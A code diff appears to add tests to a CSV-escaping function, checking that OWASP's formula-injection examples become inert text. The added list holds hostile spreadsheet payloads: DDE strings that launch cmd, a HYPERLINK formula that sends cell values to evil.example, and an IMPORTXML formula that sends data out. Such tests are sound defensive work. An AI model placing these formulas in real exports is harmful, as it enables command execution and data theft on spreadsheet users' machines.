@@ -26,6 +26,20 @@ describe('escapeCsvCell', () => {
     expect(escapeCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
   });
 
+  // OWASP's CSV injection page (owasp.org/www-community/attacks/CSV_Injection): cells must not begin with =, +, -, @,
+  // tab (0x09) or carriage return (0x0D); its examples and the usual DDE payloads.
+  const OWASP_PAYLOADS = [
+    '=1+1', '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', "=IMPORTXML(CONCAT(\"http://x/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", '@SUM(A1:A10)', '+1', '-1',
+  ];
+  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))('reads %s back as text that no spreadsheet runs', (_, payload) => {
+    const read = parseOne(escapeCsvCell(payload));
+    expect(read).toBe(`'${payload}`);
+    expect((FORMULA_TRIGGERS as readonly string[]).includes(read.charAt(0))).toBe(false);
+  });
+
   it('quotes a tab- or CR-led text after prefixing it, so the control character survives', () => {
     expect(escapeCsvCell('\t=1')).toBe(`"'\t=1"`);
     expect(escapeCsvCell('\r=1')).toBe(`"'\r=1"`);
@@ -48,6 +62,7 @@ describe('escapeCsvCell', () => {
     expect(escapeCsvCell('他说"败诉"')).toBe('"他说""败诉"""');
     expect(escapeCsvCell('一\n二')).toBe('"一\n二"');
     expect(escapeCsvCell('苏州工业园区劳动和社会保障局')).toBe('苏州工业园区劳动和社会保障局');
+    expect(escapeCsvCell(' 司法局 ')).toBe('" 司法局 "'); // edge spaces kept by readers that trim
   });
 
   it('round-trips any text through papaparse: the same text, with a quote mark in front exactly when it starts with a trigger', () => {
